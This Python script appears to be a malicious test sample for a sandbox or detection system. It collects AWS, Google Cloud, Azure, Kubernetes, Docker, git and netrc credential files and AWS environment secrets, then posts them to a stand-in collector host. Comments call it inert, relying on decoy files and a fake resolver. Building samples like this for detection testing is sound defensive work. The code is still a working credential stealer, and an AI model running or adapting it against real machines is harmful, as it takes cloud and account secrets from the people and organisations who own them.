#!/usr/bin/env python3
# SANDTRAP-TEST-MALICIOUS: reads cloud and container credential files and posts them to a collector
# (T1552.001).
# Inert: the files are the sandbox home's decoys (absent ones are skipped), and the collector is a
# name only the fake resolver answers.
import json
import os
import urllib.request

home = os.path.expanduser("~")
candidates = [
    ".aws/credentials",
    ".aws/config",
    ".config/gcloud/credentials.db",
    ".config/gcloud/application_default_credentials.json",
    ".azure/accessTokens.json",
    ".kube/config",
    ".docker/config.json",
    ".git-credentials",
    ".netrc",
]
loot = {}
for name in candidates:
    try:
        with open(os.path.join(home, name), "rb") as f:
            loot[name] = f.read(4096).decode("latin-1")
    except OSError:
        continue
for key in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"):
    if key in os.environ:
        loot[key] = os.environ[key]
body = json.dumps({"host": os.uname().nodename, "loot": loot}).encode()
request = urllib.request.Request("http://collect.example.test/api/upload", data=body, method="POST")
try:
    urllib.request.urlopen(request, timeout=5).read()
except OSError as error:
    print("upload failed:", error)
print("files:", len(loot))
